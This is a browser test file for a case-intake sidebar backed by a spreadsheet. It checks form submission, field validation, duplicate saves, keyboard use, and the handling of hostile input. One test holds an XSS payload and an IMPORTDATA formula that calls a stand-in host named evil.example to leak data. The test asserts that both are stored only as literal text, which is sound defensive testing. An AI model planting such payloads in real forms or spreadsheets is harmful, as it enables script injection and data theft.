/**
 * The built intake sidebar in Chromium, bridged to the bundle in the emulator: fill and submit, errors
 * beside fields, a double click saving one case, hostile text round-tripping as literal text, and
 * keyboard-only use. Screenshots go to test-output/screenshots/.
 */
import type { Page } from 'playwright-core';
import type { Workspace } from '../../emulator';
import { eventually, type OpenedPage } from '../../emulator/browser/page-harness';
import { OPS, tracker } from '../support/intake-tracker';
import { screenshotPath, useBrowser } from './support';

jest.setTimeout(40_000);
const HOSTILE = '<img src=x onerror=alert(1)>';
const FORMULA = '=IMPORTDATA("https://evil.example/leak")';
const browser = useBrowser();
let opened: OpenedPage | null = null;

type Tracker = ReturnType<typeof tracker>;

function casesSheet(ctx: Tracker) {
  return {
    cases: ctx.cases,
    cell: (row: number, header: string) => ctx.cases.getRange(row, ctx.column(header)),
  };
}

async function open(ws: Workspace, spreadsheetId: string, replyDelayMs = 0): Promise<Page> {
  opened = await browser.open(ws, {
    page: 'intake',
    user: OPS,
    spreadsheetId,
    viewport: { width: 300, height: 900 },
    replyDelayMs,
  });
  await opened.page.locator('#intake-form').waitFor();
  return opened.page;
}

async function fillValid(page: Page, summary = 'Replica sneakers sold as originals.'): Promise<void> {
  await page.getByLabel('Market').selectOption('DE');
  await page.getByLabel('Seller ID').fill('S-4711');
  await page.getByLabel('LIVE date').fill('2026-11-20');
  await page.getByLabel('Policy').selectOption('Counterfeit goods');
  await page.getByLabel('Enforcement action').selectOption('Product removed');
  await page.getByLabel('Detection source').selectOption('Human review');
  await page.getByLabel('Automated decision').selectOption('Not automated');
  await page.getByLabel('Severity').selectOption('P2');
  await page.getByLabel('Summary').fill(summary);
}

test('the form is built from the schema with labelled controls; fill and submit shows the confirmation and the row', async () => {
  const ctx = tracker();
  const { ws, spreadsheetId } = ctx;
  const page = await open(ws, spreadsheetId);
  const labelled = await page
    .locator('input, select, textarea')
    .evaluateAll(
      (els) =>
        els.filter((el) => (el as HTMLInputElement).labels && (el as HTMLInputElement).labels!.length > 0)
          .length,
    );
  expect(labelled).toBeGreaterThanOrEqual(10);
  await page.screenshot({ path: screenshotPath('intake-empty'), fullPage: true });
  await fillValid(page);
  await page.getByRole('button', { name: 'Save case' }).click();
  await page.locator('#state-success').waitFor();
  await expect(page.locator('#success-case').textContent()).resolves.toBe('CB-2026-00001');
  await page.screenshot({ path: screenshotPath('intake-success'), fullPage: true });
  const { cell } = casesSheet(ctx);
  expect(cell(2, 'Seller ID').getValue()).toBe('S-4711');
  expect(cell(2, 'Created by').getValue()).toBe(OPS);
  // The form is reset for the next case, keeping the market.
  await expect(page.getByLabel('Seller ID').inputValue()).resolves.toBe('');
  await expect(page.getByLabel('Market').inputValue()).resolves.toBe('DE');
});

test('a duplicate check still pending when the case is saved does not call the new case its own duplicate', async () => {
  const ctx = tracker();
  const { ws, spreadsheetId } = ctx;
  const page = await open(ws, spreadsheetId, 300);
  await fillValid(page);
  await page.getByRole('button', { name: 'Save case' }).click();
  await page.locator('#state-success').waitFor();
  await page.waitForTimeout(1200);
  await expect(page.locator('#duplicates').isHidden()).resolves.toBe(true);
});

test('every kind of invalid input shows its message beside its field, and nothing is saved', async () => {
  const ctx = tracker();
  const { ws, spreadsheetId } = ctx;
  const page = await open(ws, spreadsheetId);
  await fillValid(page);
  await page.getByLabel('Seller ID').fill('seller #9');
  await page.getByLabel('Summary').fill('');
  // Owner sits in the folded "More details (optional)" section: a person opens it first.
  await page.locator('details.more:not([data-only-for-statement]) > summary').click();
  await page.getByLabel('Owner').fill('not-an-email');
  await page.getByLabel('Enforcement action').selectOption('Account suspended');
  await page.getByLabel('Appeal status').selectOption('Overturned');
  await page.getByRole('button', { name: 'Save case' }).click();
  await expect(page.locator('#field-sellerId-error').textContent()).resolves.toMatch(/not a seller ID/);
  await expect(page.locator('#field-summary-error').textContent()).resolves.toBe('Summary is required');
  await expect(page.locator('#field-owner-error').textContent()).resolves.toMatch(/not an email address/);
  await expect(page.locator('#field-restrictionEnd-error').textContent()).resolves.toBe(
    'Restriction end date is required here',
  );
  await expect(page.locator('#field-misjudgement-error').textContent()).resolves.toBe(
    'Misjudgement is required here',
  );
  await expect(page.locator('#field-overturnReason-error').textContent()).resolves.toBe(
    'Overturn reason is required here',
  );
  await expect(page.locator('#field-sellerId').getAttribute('aria-invalid')).resolves.toBe('true');
  await expect(page.locator('#form-errors').textContent()).resolves.toBe('6 fields need fixing.');
  await page.screenshot({ path: screenshotPath('intake-errors'), fullPage: true });
  // The duplicate check may have asked while typing; nothing was submitted.
  expect(opened?.serverCalls.filter((name) => name !== 'findDuplicates')).toEqual(['getIntakeOptions']);
  expect(casesSheet(ctx).cases.getLastRow()).toBe(1);
});

test('a double-clicked submit creates one case (the button is disabled while saving)', async () => {
  const ctx = tracker();
  const { ws, spreadsheetId } = ctx;
  const page = await open(ws, spreadsheetId, 400);
  await fillValid(page);
  const save = page.getByRole('button', { name: 'Save case' });
  await save.dblclick();
  await expect(save.isDisabled()).resolves.toBe(true);
  await page.locator('#state-success').waitFor();
  await eventually(() => opened?.serverCalls.filter((c) => c === 'submitCase').length === 1);
  expect(casesSheet(ctx).cases.getLastRow()).toBe(2);
});

test('hostile text round-trips as literal text in the page and in the cell', async () => {
  const ctx = tracker();
  const { ws, spreadsheetId } = ctx;
  const page = await open(ws, spreadsheetId);
  await fillValid(page, `${FORMULA} ${HOSTILE}`);
  await page.getByLabel('Shop name').fill(HOSTILE);
  await page.getByRole('button', { name: 'Save case' }).click();
  await page.locator('#state-success').waitFor();
  await expect(page.locator('img').count()).resolves.toBe(0);
  const { cell } = casesSheet(ctx);
  expect(cell(2, 'Summary').getValue()).toBe(`${FORMULA} ${HOSTILE}`);
  expect(cell(2, 'Summary').getFormula()).toBe('');
  expect(cell(2, 'Shop name').getValue()).toBe(HOSTILE);
});

test('keyboard only: Tab through the fields and Enter submits', async () => {
  const ctx = tracker();
  const { ws, spreadsheetId } = ctx;
  const page = await open(ws, spreadsheetId);
  await fillValid(page);
  await page.getByLabel('Summary').focus();
  await page.keyboard.press('Tab');
  // Task order: after what happened comes the policy it breaks.
  await expect(page.evaluate(() => document.activeElement?.id)).resolves.toBe('field-policy');
  await page.getByLabel('Seller ID').focus();
  await page.keyboard.press('Enter');
  await page.locator('#state-success').waitFor();
  expect(casesSheet(ctx).cases.getLastRow()).toBe(2);
});
